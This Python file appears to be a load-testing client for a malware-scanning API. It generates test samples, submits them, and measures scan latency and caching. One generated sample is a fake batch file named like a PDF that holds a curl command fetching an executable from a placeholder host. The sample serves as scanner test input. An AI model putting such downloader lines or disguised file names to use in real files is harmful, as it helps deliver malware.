"""An asyncio keep-alive load client for PeekabooAV-compatible v1 APIs.

Each of CLIENTS connections submits a distinct sample (POST /v1/scan) and polls GET /v1/report/<id>
until a final result. Round "fresh" sends N new samples, round "cached" the same N again.
"""

from __future__ import annotations

import asyncio
import random
import time
from dataclasses import dataclass, field

import orjson

FINAL = {"bad", "good", "ignored", "unknown", "failed"}
BOUNDARY = "mailowlbench0boundary"


def make_samples(n: int, seed: int) -> list[tuple[str, bytes]]:
    """Four kinds in turn: a .bat downloader, a text note, an EXE-like header, random binary."""
    rnd = random.Random(seed)
    out = []
    for i in range(n):
        tag = f"{seed}:{i}:{rnd.getrandbits(64)}".encode()
        kind = i % 4
        if kind == 0:
            out.append((f"invoice{i}.pdf.bat", b"@echo off\r\ncurl http://x.invalid/%d.exe\r\nrem " % i + tag))
        elif kind == 1:
            out.append((f"notes{i}.txt", b"meeting notes, please bring the slides " * 8 + tag))
        elif kind == 2:
            out.append((f"tool{i}.exe", b"MZ\x90\x00" + b"\x00" * 60 + tag * 8))
        else:
            out.append((f"data{i}.bin", rnd.randbytes(2048) + tag))
    return out


class Connection:
    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.reader: asyncio.StreamReader | None = None
        self.writer: asyncio.StreamWriter | None = None

    async def request(self, method: str, path: str, body: bytes = b"", ctype: str | None = None) -> tuple[int, bytes]:
        if self.writer is None:
            self.reader, self.writer = await asyncio.open_connection(self.host, self.port)
        assert self.reader is not None
        head = f"{method} {path} HTTP/1.1\r\nHost: {self.host}\r\nContent-Length: {len(body)}\r\n"
        if ctype:
            head += f"Content-Type: {ctype}\r\n"
        self.writer.write(head.encode() + b"\r\n" + body)
        status = int((await self.reader.readline()).split()[1])
        length, close = 0, False
        while True:
            line = await self.reader.readline()
            if line in (b"\r\n", b""):
                break
            name, _, value = line.partition(b":")
            name = name.strip().lower()
            if name == b"content-length":
                length = int(value)
            elif name == b"connection" and b"close" in value.lower():
                close = True
        data = await self.reader.readexactly(length)
        if close:
            self.close()
        return status, data

    def close(self) -> None:
        if self.writer is not None:
            self.writer.close()
        self.reader = self.writer = None


@dataclass
class Round:
    latencies: list[float] = field(default_factory=list)
    results: dict[str, int] = field(default_factory=dict)
    errors: dict[str, int] = field(default_factory=dict)
    requests: int = 0
    seconds: float = 0.0

    def count(self, table: dict[str, int], key: str) -> None:
        table[key] = table.get(key, 0) + 1

    def summary(self, n: int) -> dict[str, object]:
        lat = sorted(self.latencies)

        def pct(p: float) -> float | None:
            return round(lat[min(len(lat) - 1, int(p * len(lat)))] * 1000, 1) if lat else None

        return {"samples_per_s": round(n / self.seconds, 1), "answered": len(lat), "of": n,
                "results": self.results, "errors": self.errors, "requests": self.requests,
                "p50_ms": pct(0.50), "p99_ms": pct(0.99), "max_ms": pct(1.0)}


async def _one(conn: Connection, name: str, data: bytes, stats: Round, timeout: float) -> None:
    body = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + data + f"\r\n--{BOUNDARY}--\r\n".encode()
    started = time.perf_counter()
    try:
        status, raw = await conn.request("POST", "/v1/scan", body, f"multipart/form-data; boundary={BOUNDARY}")
        stats.requests += 1
        if status != 200:
            stats.count(stats.errors, f"scan-{status}")
            return
        job = orjson.loads(raw)["job_id"]
        delay = 0.002
        while time.perf_counter() - started < timeout:
            status, raw = await conn.request("GET", f"/v1/report/{job}")
            stats.requests += 1
            if status == 200:
                result = orjson.loads(raw).get("result")
                if result in FINAL:
                    stats.count(stats.results, result)
                    stats.latencies.append(time.perf_counter() - started)
                    return
            elif status != 404:
                stats.count(stats.errors, f"report-{status}")
                return
            await asyncio.sleep(delay)
            delay = min(delay * 2, 0.1)
        stats.count(stats.errors, "timeout")
    except (OSError, ValueError, KeyError, asyncio.IncompleteReadError) as exc:
        stats.count(stats.errors, type(exc).__name__)
        conn.close()


async def run_round(host: str, port: int, items: list[tuple[str, bytes]], clients: int,
                    timeout: float = 60.0) -> dict[str, object]:
    todo = list(reversed(items))
    stats = Round()

    async def client() -> None:
        conn = Connection(host, port)
        while todo:
            name, data = todo.pop()
            await _one(conn, name, data, stats, timeout)
        conn.close()

    started = time.perf_counter()
    await asyncio.gather(*(client() for _ in range(clients)))
    stats.seconds = time.perf_counter() - started
    return stats.summary(len(items))


def fresh_and_cached(host: str, port: int, n: int, clients: int, seed: int) -> dict[str, object]:
    items = make_samples(n, seed)
    fresh = asyncio.run(run_round(host, port, items, clients))
    cached = asyncio.run(run_round(host, port, items, clients))
    return {"fresh": fresh, "cached": cached}
